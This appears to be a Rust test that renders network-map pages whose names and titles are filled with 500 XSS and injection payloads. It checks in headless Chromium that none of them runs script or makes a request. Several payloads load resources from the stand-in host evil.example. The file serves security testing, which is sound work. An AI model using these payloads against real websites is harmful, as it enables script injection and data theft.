//! Text that wants to be more than text, everywhere a page tells somebody's words: it is shown, and nothing runs or leaves.

use std::collections::BTreeSet;

use acquaint::network::{Community, Department, Network, Person, PersonId, Position, Settings, Tie, TieKind};
use acquaint::sociogram::{Known, Output, Sociogram, Vacancy, draw};
use serde_json::{Value, json};

use super::chromium::Chromium;

/// So many people of one network: an ego map shows them all.
const SHOWN: usize = 200;

/// What would set the canary or open a dialog if it ran, or ask for something.
const ATTACKS: [&str; 25] = [
    "<script>canary=1;alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=canary=1>",
    "<svg onload=canary=1>",
    "<svg><script>canary=1</script></svg>",
    "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>",
    "<a href=javascript:canary=1 autofocus onfocus=canary=1>x</a>",
    "<body onload=canary=1>",
    "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/y)}</style>",
    "<link rel=stylesheet href=https://evil.example/z.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input autofocus onfocus=canary=1>",
    "<foreignObject><img src=https://evil.example/i.png></foreignObject>",
    "<use href='data:image/svg+xml,<svg id=x onload=canary=1>#x'/>",
    "<animate attributeName=href values=javascript:canary=1>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "<details open ontoggle=canary=1>",
    "<math><mi xlink:href=javascript:canary=1>x</mi></math>",
    "onmouseover=canary=1 style=background:url(https://evil.example/s) x=",
    "javascript:canary=1//",
    "{{canary=1}}${canary=1}<%= canary %>#{canary=1}",
    "&lt;script&gt;canary=1&lt;/script&gt;&#60;img src=x onerror=canary=1&#62;",
    "constructor __proto__ toString length 0",
    "\u{202e}txet\u{202c} \u{200f}\u{2066}a\u{2069}\u{feff}\u{0}\u{1b}[2J\u{7}\r\n\u{85}\u{2028}\u{e0041}",
];

/// What breaks out of where a text may stand.
const ESCAPES: [&str; 20] = [
    "",
    "\"",
    "'",
    "`",
    "\">",
    "'>",
    "-->",
    "<!--",
    "]]>",
    "<![CDATA[",
    "</title>",
    "</style>",
    "</script>",
    "</svg>",
    "</text></g>",
    "</table>",
    "&quot;>",
    "\\\"",
    "\\",
    "\u{0}\u{8}\" ",
];

fn payloads() -> Vec<String> {
    ESCAPES.iter().flat_map(|escape| ATTACKS.map(|attack| format!("{escape}{attack}"))).collect()
}

fn id(number: usize) -> PersonId {
    format!("p{number}").parse().unwrap()
}

/// Returns people whose every word is a payload, beginning with one of them.
fn network(payloads: &[String], (first, n): (usize, usize)) -> Network {
    let word = |n: usize| payloads[(first + n) % payloads.len()].clone();
    let mut network = Network::new(Settings::of(id(0)));
    for number in 0..n {
        let mut person = Person::named(id(number), word(number));
        let unit = format!("acme/d{number}").parse().unwrap();
        network.load(Department { name: word(number), ..Department::named(unit, "") });
        let circle = format!("c{number}").parse().unwrap();
        network.load(Community { name: word(number), ..Community::named(circle, "") });
        let department = Some(format!("acme/d{number}").parse().unwrap());
        person.positions.push(Position { title: word(number), department, ..Position::default() });
        person.communities.push(format!("c{number}").parse().unwrap());
        network.load(person);
        if number > 0 {
            network.load(Tie::between(id(number), id(0), TieKind::ALL[number % 8]));
        }
    }
    network
}

fn map(kind: &str, payloads: &[String], (first, n): (usize, usize)) -> Sociogram {
    let word = |n: usize| payloads[(first + n) % payloads.len()].clone();
    let known = Known { function: Some(word(1)), overdue: Some(1), suggested: Some(word(2)) };
    let seats = (0..20).map(|n| Vacancy { label: word(n), department: None }).collect::<Vec<_>>();
    super::map_of(kind, &network(payloads, (first, n)), &known, &seats)
}

/// Does everything the page can do, and returns what its people are called.
const USED: &str = "(() => {
    const all = (it) => [...document.querySelectorAll(it)];
    const names = all('tbody tr').map(row => row.cells[0].textContent);
    all('.mark').forEach(it => it.dispatchEvent(new MouseEvent('mouseover', { bubbles: true })));
    all('.mark').slice(0, 40).forEach(it => { it.dispatchEvent(new MouseEvent('click', { bubbles: true })); });
    all('fieldset input').forEach(it => it.click());
    all('button').forEach(it => it.click());
    all('tbody tr a').slice(0, 40).forEach(it => it.click());
    const field = document.querySelector('input[type=search]');
    names.slice(0, 40).forEach(it => { field.value = it; field.dispatchEvent(new Event('input', { bubbles: true })); });
    return names;
})()";

const ELEMENTS: &str = "[...new Set([...document.querySelectorAll('*')].map(it => it.localName))].sort().join(' ')";
const ALLOWED: &str = "a aside body button caption circle dd details div dl dt fieldset form g h1 h2 head header html i \
    input label legend main meta p path rect script section span style summary svg table tbody td text th thead title tr";
const ATTRIBUTES: &str = "[...document.querySelectorAll('*')].flatMap(it => [...it.attributes]).filter(it => \
    /^on|^style$|src|action/i.test(it.name) || /href/i.test(it.name) && !/^#(data|m\\d+)$/.test(it.value)).length";
const WATCH: &str = "window.reports = []; \
    addEventListener('securitypolicyviolation', it => reports.push(it.violatedDirective + ' ' + it.blockedURI));";

fn hold(browser: &mut Chromium, map: &Sociogram) {
    let names = browser.ask(USED);
    let shown: Vec<&str> = names.as_array().unwrap().iter().filter_map(Value::as_str).collect();
    let meant: Vec<&str> = map.marks.iter().map(|it| it.text.as_str()).collect();
    assert_eq!(shown, meant, "text comes out as it was meant");
    assert_eq!(browser.text("typeof canary"), "undefined");
    assert_eq!(browser.text("reports.join()"), "");
    let allowed: BTreeSet<_> = ALLOWED.split_whitespace().collect();
    let elements = browser.text(ELEMENTS);
    assert!(elements.split(' ').all(|it| allowed.contains(it)), "{elements}");
    assert_eq!(browser.count("document.scripts.length"), 1);
    assert_eq!(browser.count(ATTRIBUTES), 0);
    browser.ask("new Promise(done => setTimeout(done, 200))");
    for quiet in
        ["Page.javascriptDialogOpening", "Runtime.exceptionThrown", "Runtime.consoleAPICalled", "Log.entryAdded"]
    {
        assert!(browser.told(quiet).is_empty(), "{:?}", browser.told(quiet));
    }
    let asked: Vec<_> =
        browser.told("Network.requestWillBeSent").into_iter().map(|it| &it["params"]["request"]["url"]).collect();
    assert_eq!(asked.len(), 1, "nothing is asked for but the page: {asked:?}");
}

#[test]
fn five_hundred_payloads_stay_text() {
    let (payloads, folder) = (payloads(), super::fresh("hostile"));
    let mut browser = Chromium::start("hostile");
    browser.call("Page.addScriptToEvaluateOnNewDocument", json!({"source": WATCH}));
    assert_eq!(payloads.iter().collect::<BTreeSet<_>>().len(), 500);
    let rings = [0, SHOWN, 2 * SHOWN].map(|first| map("ego", &payloads, (first, SHOWN)));
    let maps = rings.into_iter().chain([map("influence", &payloads, (0, 40))]);
    for (number, map) in maps.enumerate() {
        let file = folder.join(format!("{number}.html"));
        std::fs::write(&file, draw(&map, Output::Html, None).unwrap().bytes).unwrap();
        browser.open(&file);
        hold(&mut browser, &map);
    }
    // That the watch is awake: a page that does run a script, and is kept from running another, is found out.
    let file = folder.join("awake.html");
    let policy = "<meta http-equiv='Content-Security-Policy' content=\"default-src 'none'\">";
    std::fs::write(&file, format!("{policy}<img src='https://evil.example/'><script>canary=1</script>")).unwrap();
    browser.open(&file);
    assert_eq!(browser.text("reports.length"), "2");
    assert!(!browser.told("Log.entryAdded").is_empty());
}
